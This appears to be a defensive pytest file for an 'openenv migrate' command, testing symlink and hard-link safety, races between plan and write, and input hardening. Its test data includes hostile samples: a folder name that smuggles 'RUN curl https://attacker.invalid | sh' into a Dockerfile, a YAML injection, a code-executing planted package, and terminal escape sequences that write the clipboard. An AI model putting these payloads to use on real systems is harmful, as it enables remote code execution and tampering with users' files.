"""``openenv migrate`` never reads or writes outside the project, nor through a link.

Each test plants what a hostile clone could carry (links to files outside the project,
standing in for ``~/.bashrc`` and the like) and checks that the outside files are
byte-for-byte unchanged after a real migrate, and that the link is reported.
"""

from __future__ import annotations

import os
from pathlib import Path

import pytest
from typer.testing import CliRunner

from openenv_cli.errors import OpenEnvError
from openenv_cli.main import app
from openenv_cli.migrate import apply_migration, plan_migration

REFERENCE_APP = "from openenv.core.env_server.http_server import create_app\n"
REFERENCE_DOCKERFILE = "ARG BASE_IMAGE=ghcr.io/meta-pytorch/openenv-base:latest\nRUN uv sync\n"
REFERENCE_PYPROJECT = '[project]\nname = "demo"\ndependencies = ["openenv-core>=0.1"]\n'
REFERENCE_MANIFEST = "name: demo_env\napp: server.app:app\n"


@pytest.fixture
def home(tmp_path: Path) -> Path:
    """A folder outside the project holding the files an attacker aims at."""
    outside = tmp_path / "home"
    outside.mkdir()
    (outside / ".bashrc").write_text("# the user's shell start-up\n")
    (outside / "pyproject.toml").write_text(REFERENCE_PYPROJECT)
    (outside / "openenv.yaml").write_text(REFERENCE_MANIFEST)
    (outside / "tool.py").write_text(REFERENCE_APP)
    (outside / "pkg").mkdir()
    (outside / "pkg" / "module.py").write_text(REFERENCE_APP)
    return outside


@pytest.fixture
def project(tmp_path: Path) -> Path:
    root = tmp_path / "demo_env"
    (root / "server").mkdir(parents=True)
    (root / "server" / "app.py").write_text(REFERENCE_APP)
    (root / "server" / "Dockerfile").write_text(REFERENCE_DOCKERFILE)
    return root


def snapshot(folder: Path) -> dict[str, bytes]:
    return {
        p.relative_to(folder).as_posix(): p.read_bytes()
        for p in folder.rglob("*")
        if p.is_file() and not p.is_symlink()
    }


def migrate(root: Path) -> str:
    result = CliRunner().invoke(app, ["migrate", str(root)])
    assert result.exit_code == 0, result.output
    return " ".join(result.output.split())  # the console wraps long lines


def test_a_planted_dockerfile_reference_link_is_not_written_through(
    project: Path, home: Path
) -> None:
    before = snapshot(home)
    (project / "server" / "Dockerfile.reference").symlink_to(home / ".bashrc")
    output = migrate(project)
    assert snapshot(home) == before
    assert "Dockerfile.reference" in output and "link" in output
    assert (project / "server" / "Dockerfile.reference").is_symlink()  # reported, not replaced
    assert (project / "server" / "Dockerfile").read_text() == REFERENCE_DOCKERFILE


@pytest.mark.parametrize("name", ["pyproject.toml", "openenv.yaml"])
def test_linked_project_files_outside_are_not_edited(project: Path, home: Path, name: str) -> None:
    before = snapshot(home)
    (project / name).symlink_to(home / name)
    output = migrate(project)
    assert snapshot(home) == before
    assert name in output and "link" in output
    assert (project / name).is_symlink()
    assert "openenv_runtime" in (project / "server" / "app.py").read_text()  # the rest migrated


def test_linked_python_files_and_folders_outside_are_not_edited(project: Path, home: Path) -> None:
    before = snapshot(home)
    (project / "tool.py").symlink_to(home / "tool.py")
    (project / "pkg").symlink_to(home / "pkg", target_is_directory=True)
    output = migrate(project)
    assert snapshot(home) == before
    assert "tool.py" in output and "pkg: a link to a folder" in output


def test_a_linked_server_folder_is_not_entered(project: Path, home: Path) -> None:
    outside_server = home / "server"
    (project / "server").rename(outside_server)
    (project / "server").symlink_to(outside_server, target_is_directory=True)
    before = snapshot(home)
    migrate(project)
    assert snapshot(home) == before
    assert not (outside_server / "Dockerfile.reference").exists()


def test_a_link_swapped_in_after_the_plan_is_refused(project: Path, home: Path) -> None:
    """Between plan and write an attacker replaces a planned file with a link: refused."""
    before = snapshot(home)
    (project / "pyproject.toml").write_text(REFERENCE_PYPROJECT)
    plan = plan_migration(project, dockerfile_template="FROM python:3.11-slim\n")
    (project / "pyproject.toml").unlink()
    (project / "pyproject.toml").symlink_to(home / "pyproject.toml")
    with pytest.raises(OpenEnvError, match=r"pyproject\.toml"):
        apply_migration(plan)
    assert snapshot(home) == before


def test_a_folder_swapped_for_a_link_after_the_plan_is_refused(project: Path, home: Path) -> None:
    plan = plan_migration(project, dockerfile_template="FROM python:3.11-slim\n")
    (home / "server").mkdir()
    (home / "server" / "Dockerfile").write_text("# outside\n")
    (project / "server").rename(project / "server.moved")
    (project / "server").symlink_to(home / "server", target_is_directory=True)
    before = snapshot(home)
    with pytest.raises(OpenEnvError, match="server"):
        apply_migration(plan)
    assert snapshot(home) == before


def test_writes_are_atomic_and_keep_the_file_mode(project: Path) -> None:
    (project / "server" / "app.py").chmod(0o600)
    migrate(project)
    app_py = project / "server" / "app.py"
    assert "openenv_runtime" in app_py.read_text()
    assert app_py.stat().st_mode & 0o777 == 0o600
    leftovers = [p.name for p in project.rglob("*.tmp")]
    assert leftovers == []
    assert (project / "server" / "Dockerfile.reference").read_text() == REFERENCE_DOCKERFILE


def test_a_hard_link_to_an_outside_file_is_replaced_not_written_through(
    project: Path, home: Path
) -> None:
    """A hard link is not a symbolic link; the rename gives the project its own copy."""
    os.link(home / "tool.py", project / "tool.py")
    before = snapshot(home)
    migrate(project)
    assert snapshot(home) == before
    assert "openenv_runtime" in (project / "tool.py").read_text()


def test_a_folder_name_cannot_inject_into_openenv_yaml(tmp_path: Path) -> None:
    root = tmp_path / "x\nmalicious: true"
    (root / "server").mkdir(parents=True)
    (root / "server" / "app.py").write_text(REFERENCE_APP)
    output = migrate(root)
    assert not (root / "openenv.yaml").exists()
    assert "not a Python package name" in output


@pytest.mark.parametrize(
    "body",
    [
        "x = " + "(" * 100_000 + "1" + ")" * 100_000,  # crashed the process (libcst)
        "x = x" + "[0]" * 5_000,  # took minutes (libcst is quadratic on chains)
        "x = " + "-" * 100_000 + "1",
    ],
    ids=["deep-parentheses", "long-subscript-chain", "deep-unary"],
)
def test_hostile_python_is_left_as_is_quickly(project: Path, body: str) -> None:
    (project / "hostile.py").write_text("import openenv.core\n" + body + "\n")
    output = migrate(project)
    assert "hostile.py: not rewritten" in output
    assert (project / "hostile.py").read_text().startswith("import openenv.core\n")
    assert "openenv_runtime" in (project / "server" / "app.py").read_text()


def test_a_fifo_named_like_python_does_not_hang_migrate(project: Path) -> None:
    os.mkfifo(project / "pipe.py")
    output = migrate(project)
    assert "pipe.py: a symbolic link or not a regular file" in output


def test_a_folder_name_cannot_inject_into_the_dockerfile(tmp_path: Path) -> None:
    root = tmp_path / "x\nRUN curl https://attacker.invalid | sh #"
    (root / "server").mkdir(parents=True)
    (root / "server" / "app.py").write_text(REFERENCE_APP)
    (root / "server" / "Dockerfile").write_text(REFERENCE_DOCKERFILE)
    migrate(root)
    assert (root / "server" / "Dockerfile").read_text() == REFERENCE_DOCKERFILE
    assert not (root / "server" / "Dockerfile.reference").exists()


@pytest.mark.parametrize(
    "text",
    ["[project\n", "x = " + "[" * 100_000 + "]" * 100_000 + "\n", '[project]\nname = "a\n'],
    ids=["broken-table", "deep-array", "open-string"],
)
def test_a_broken_pyproject_is_reported_not_a_crash(project: Path, text: str) -> None:
    (project / "pyproject.toml").write_text(text)
    output = migrate(project)
    assert "pyproject.toml: not valid TOML" in output
    assert (project / "pyproject.toml").read_text() == text


def test_a_dry_run_never_imports_the_projects_own_packages(
    project: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """``python -m openenv_cli`` puts the project folder first on ``sys.path``: checking
    whether imported runtime modules exist must not import a look-alike from the project."""
    (project / "openenv_runtime_x").mkdir()
    (project / "openenv_runtime_x" / "__init__.py").write_text(
        f"open({str(project / 'PWNED')!r}, 'w').write('ran')\n"
    )
    (project / "server" / "app.py").write_text(
        REFERENCE_APP + "from openenv_runtime_x.sub import thing\n"
    )
    monkeypatch.syspath_prepend(str(project))
    result = CliRunner().invoke(app, ["migrate", str(project), "--dry-run"])
    assert result.exit_code == 0, result.output
    assert not (project / "PWNED").exists()


def test_new_files_follow_the_umask(project: Path) -> None:
    previous = os.umask(0o077)
    try:
        migrate(project)
    finally:
        os.umask(previous)
    for name in ("openenv.yaml", "server/Dockerfile.reference"):
        assert (project / name).stat().st_mode & 0o777 == 0o600, name


def test_project_text_cannot_drive_the_terminal(project: Path) -> None:
    """A dry run shows the project's own text: escape sequences in it (clear the screen,
    move the cursor over a line, write the clipboard) are shown, not sent to the terminal."""
    (project / "server" / "app.py").write_text(
        REFERENCE_APP + "# \x1b[2J\x1b[1A\x1b]52;c;ZXZpbA==\x1b\\ \x9b31m\n"
    )
    (project / "bad\x1b[2Jname.py").write_text("x = \n")
    result = CliRunner().invoke(app, ["migrate", str(project), "--dry-run"])
    assert result.exit_code == 0, result.output
    assert "\x1b" not in result.output and "\x9b" not in result.output
    assert "\\x1b[2J" in result.output
